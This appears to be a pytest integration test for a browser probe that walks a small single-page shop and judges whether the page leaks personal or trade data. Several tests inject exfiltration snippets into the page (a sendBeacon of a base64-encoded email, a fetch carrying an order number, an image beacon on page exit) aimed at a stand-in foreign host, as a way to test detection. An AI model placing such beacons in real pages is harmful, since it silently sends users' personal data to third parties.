"""The walk through a shop of one page, made by its scripts: acts, what is told on the way, and steps that fail."""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from conformance.catalogue.load import load_catalogue
from conformance.judges.disclosure import personal_kept, trade_kept
from probes.browser import paging
from probes.browser.hands import Hands
from probes.browser.paging import BrowserHttp
from probes.browser.watch import Watch
from probes.goods import OFFERED, Goods
from probes.observation import Observation
from probes.redaction import Redactor
from probes.registry import PROBES
from probes.runner import run_probe
from probes.shop.adapter_file import parse
from probes.shop.adapter_walk import WALKED
from probes.shop.outcome import Broken, Done
from reports.verdict import word
from tests.probes.browser.foreign import Site, sites, target_of
from tests.probes.browser.staging import Stage, found, staged
from tests.probes.playing import Play

pytestmark = pytest.mark.integration

SHOP = """<!doctype html><title>Shop</title><main></main><script>
const main = document.querySelector("main");
const tell = (what) => { @LEAK@ };
const draw = (page, html) => { main.innerHTML = html; main.dataset.page = page; };
const fields = (names) => names.map((name) => `<input name="${name}">`).join("") + "<button>Go</button>";
const order = '<b class="number">200417388</b> <i>GBP 1,234.50</i> <a href="#/order">again</a>';
const pages = {
  "": () => draw("goods", "<p hidden>Buy</p><p>Buy</p>"),
  register: () => draw("register", fields(["first", "last", "email", "phone", "password"])),
  "log-in": () => localStorage.member ? draw("inside", "You are in.") : draw("log-in", fields(["email", "password"])),
  inside: () => draw("inside", "Hello"),
  article: () => draw("article", fields(["pieces"])),
  cart: () => draw("cart", fields(["street"]) + '<select name="land"><option>GB<option>CN</select>'),
  order: () => draw("order", order),
};
const next = {register: "log-in", "log-in": "inside", article: "cart", cart: "order"};
main.addEventListener("click", (event) => {
  if (event.target.tagName !== "BUTTON") return;
  const given = Object.fromEntries([...main.querySelectorAll("input, select")].map((each) => [each.name, each.value]));
  if (Object.values(given).includes("")) return;
  if (main.dataset.page === "register") { localStorage.member = given.email; document.cookie = "member=1"; }
  tell({...given, page: main.dataset.page});
  setTimeout(() => { location.hash = "#/" + next[main.dataset.page]; }, 50);
});
const go = () => pages[location.hash.slice(2)]();
addEventListener("hashchange", go);
go();
</script>"""

ADAPTER = """
[adapter]
name = "spa"
title_zh = "单页商城"
title_en = "A shop of one page"
currency = "GBP"
[[journeys.home.steps]]
stepId = "home"
path = "/"
[[walk.home.steps]]
stepId = "home"
goto = "/"
wait_for = "p"
[[walk.register.steps]]
stepId = "form"
goto = "/#/register"
wait_for = "[data-page=register] button"
[[walk.register.steps]]
stepId = "submit"
fill = {"[name=first]" = "{first_name}", "[name=last]" = "{last_name}", "[name=email]" = "{email}", "[name=phone]" = "{phone}", "[name=password]" = "{password}"}
click = "button"
wait_for = "[data-page=inside]"
[[walk.log_in.steps]]
stepId = "form"
goto = "/#/log-in"
fill = {"[name=email]" = "{username}", "[name=password]" = "{password}"}
click = "button"
wait_for = "[data-page=inside]"
[[walk.add_to_cart.steps]]
stepId = "add"
goto = "/#/{url}"
fill = {"[name=pieces]" = "{quantity}"}
click = "button"
wait_for = "[data-page=cart]"
[[walk.check_out.steps]]
stepId = "address"
fill = {"[name=street]" = "{line1}"}
select = {"[name=land]" = "{country}"}
wait_for = "button"
[[walk.confirm_order.steps]]
stepId = "pay"
click = "button"
wait_for = ".number"
read.number = {css = ".number"}
[[walk.read_order.steps]]
stepId = "order"
click = "a"
wait_for = "[data-page=order] i"
read.total = {css = "i", as = "money"}
"""  # noqa: E501 - TOML's inline tables stand in one line

GOODS = Goods(name="A vase", url="article", ref="1", price={"amount": "411.50", "currency": "GBP"})


def shop_telling(leak: str = "") -> str:
    return SHOP.replace("@LEAK@", leak)


# ---- the whole look ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Walked:
    """What the look and the two judges said of a shop."""

    seen: Observation
    personal: str
    trade: str
    reason: str

    def outcomes(self) -> dict[str, str]:
        return {step["step"]: step["done"]["outcome"] for step in self.seen.data["steps"] if step["done"]}


def walked(folder: Path, own: Site, other: Site, leak: str = "", adapter: str = ADAPTER) -> Walked:
    own.begin({"": shop_telling(leak)}, other)
    further = 'environment = "disposable"\nauthorised = true\nadapter = "spa.toml"\n[shop]\nmax_orders = 100\n'
    target = target_of(folder, own, further)
    (folder / "spa.toml").write_text(adapter, encoding="utf-8")
    with Play.of(target.path) as play:
        play.scene.put(OFFERED, (GOODS,))
        reading, _ = run_probe(PROBES["browser.walk"], play.look("buyer"), run_id="run")
    assert isinstance(reading, Observation), reading
    by_id = load_catalogue().by_id
    personal = personal_kept(by_id["SBT-3.1.3.3-personal-no-leak"], reading, {})
    trade = trade_kept(by_id["SBT-3.1.3.3-trade-no-leak"], reading, {})
    return Walked(seen=reading, personal=word(personal), trade=word(trade), reason=personal.reason.en)


@pytest.fixture(scope="module")
def pair() -> Iterator[tuple[Site, Site]]:
    with sites() as made:
        yield made


def test_the_whole_way_is_walked_and_kept_to_itself(tmp_path: Path, pair: tuple[Site, Site]) -> None:
    told = walked(tmp_path, *pair)
    done = ["home", "register", "log_in", "add_to_cart", "check_out", "confirm_order", "read_order"]
    assert told.outcomes() == dict.fromkeys(done, "done")
    assert [step["step"] for step in told.seen.data["steps"]] == [*WALKED, "home"]
    assert told.seen.data["canaries"] == ("address", "amount", "email", "name", "order number", "phone")
    assert (told.personal, told.trade) == ("conforms", "conforms")
    assert {(page["path"], page["status"]) for page in told.seen.data["pages"]} == {("/", 200)}


def test_what_its_scripts_tell_others_is_noted_and_stopped(tmp_path: Path, pair: tuple[Site, Site]) -> None:
    leak = """if (what.page === "log-in") navigator.sendBeacon("@OTHER@/c", btoa(what.email));
    if (what.page === "cart") fetch("@OTHER@/o?order=200417388", {mode: "no-cors"}).catch(() => 0);"""
    told = walked(tmp_path, *pair, leak)
    found = {(hit["step"], hit["canary"], hit["where"], hit["encoding"]) for hit in told.seen.data["hits"]}
    assert found == {
        ("log_in", "email", "body", "base64"),
        ("log_in", "name", "body", "base64"),  # an invented address has its owner's name in it
        ("confirm_order", "order number", "query", "plain"),
    }
    assert (told.personal, told.trade) == ("violates", "violates")
    assert pair[1].connections == 0


def test_a_step_that_does_not_come_about_is_named(
    tmp_path: Path, pair: tuple[Site, Site], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(paging, "SHOWS_MS", 2000)
    lacking = ADAPTER.replace('wait_for = "[data-page=cart]"', 'wait_for = ".in-cart"')
    told = walked(tmp_path, *pair, adapter=lacking)
    assert told.outcomes()["add_to_cart"] == "broken"
    assert (told.personal, told.trade) == ("undetermined", "undetermined")
    assert told.reason == (
        "The browser did not come to the end of the buying journey: add_to_cart: step add: nothing that can be seen "
        "or used matches '.in-cart'"
    )


# ---- the hands alone -----------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    with staged(tmp_path_factory.mktemp("hands")) as made:
        yield made


class Person:
    """A person in one tab of a shop."""

    def __init__(self, stage: Stage, adapter: str = ADAPTER, **pages: str) -> None:
        stage.own.begin({"": shop_telling(), **pages}, stage.other)
        self.context = stage.browser.new_context()
        self.watch = Watch(self.context, stage.look.target)
        self.http = BrowserHttp(self.context, self.watch, Redactor(), None)
        self.hands = Hands(
            self.http,
            parse(adapter, file="spa.toml"),
            base_url=stage.own.origin,
            redactor=Redactor(),
            deadline=stage.look.deadline,
        )

    def close(self) -> None:
        self.http.close()
        self.context.close()


REGISTERED = {"email": "a@example.com", "password": "p", "first_name": "Li", "last_name": "Ming", "phone": "1"}


def test_keys_are_pressed_and_fields_left_as_a_person_does(stage: Stage) -> None:
    listening = """<script>const heard = [];
    for (const kind of ["keydown", "input", "change", "blur"])
      addEventListener(kind, (event) => { if (event.target.name === "email") heard.push(kind); }, true);
    addEventListener("hashchange", () => { document.title = [...new Set(heard)].sort().join(" "); });</script>"""
    person = Person(stage, ADAPTER, **{"": shop_telling() + listening})
    assert isinstance(person.hands.do("register", REGISTERED), Done)
    assert person.http.visited[-1].title == "blur change input keydown"
    person.close()


def test_who_starts_over_is_nobody_and_what_is_sent_on_leaving_is_noted(stage: Stage) -> None:
    leaving = """<script>addEventListener("pagehide", () => {
    new Image().src = "@OTHER@/bye.gif?u=@MAIL@"; });</script>"""
    person = Person(stage, ADAPTER, **{"": shop_telling() + leaving})
    person.hands.do("register", REGISTERED)
    assert person.http.cookie("member") == "1"
    assert not person.watch.foreign
    person.http.start_over()
    assert person.http.cookie("member") is None
    assert isinstance(person.hands.do("log_in", {"username": "a@example.com", "password": "p"}), Done)
    assert "query" in found(person.watch.foreign)
    person.close()


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ('goto = "/"', 'goto = "/gone"', "step home: nothing that can be seen or used matches 'p'"),
        ('wait_for = "p"', 'wait_for = "p"\nread.x = {css = "u"}', "step home: expected an element 'u'"),
        ('wait_for = "p"', 'wait_for = "p"\nfill = {p = "a"}', "step home: 'p': Locator.fill: Error: Element is not"),
    ],
)
def test_why_a_step_does_not_come_about(
    stage: Stage, old: str, new: str, why: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(paging, "SHOWS_MS", 2000)
    person = Person(stage, ADAPTER.replace(old, new, 1))
    outcome = person.hands.do("home", {})
    person.close()
    assert isinstance(outcome, Broken)
    assert why in outcome.why


def test_the_status_of_a_page_is_the_one_it_came_with(stage: Stage) -> None:
    person = Person(stage, ADAPTER, **{"": f"{stage.own.origin}/moved", "moved": json.dumps("x") + "<p>Moved</p>"})
    assert isinstance(person.hands.do("home", {}), Done)
    assert [(page.path, page.status) for page in person.http.visited] == [("/moved", 200)]
    person.close()
